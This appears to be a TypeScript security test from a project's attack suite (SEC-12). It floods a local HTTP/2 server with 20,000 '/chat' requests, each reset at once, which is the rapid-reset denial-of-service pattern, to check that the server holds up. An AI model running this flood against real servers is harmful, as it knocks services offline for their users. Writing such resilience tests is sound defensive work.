import { connect } from 'node:http2'
import { attack } from '../attack.ts'

const resets = 20_000

attack('requests over HTTP/2 that are reset at once (SEC-12)', { peak: 128 }, async (scene) => {
  const origin = `http://127.0.0.1:${scene.http2}`
  const session = connect(origin)
  session.on('error', () => {})
  scene.onEnd(() => session.destroy())
  for (let n = 0; n < resets && !session.destroyed; n++) {
    const stream = session.request({ ':path': '/chat', accept: 'text/event-stream', origin })
    stream.on('error', () => {})
    stream.close(8)
    if (n % 200 === 0) await scene.goesOn(5)
  }
  await scene.goesOn(1_000)
  scene.note({ resets })
})
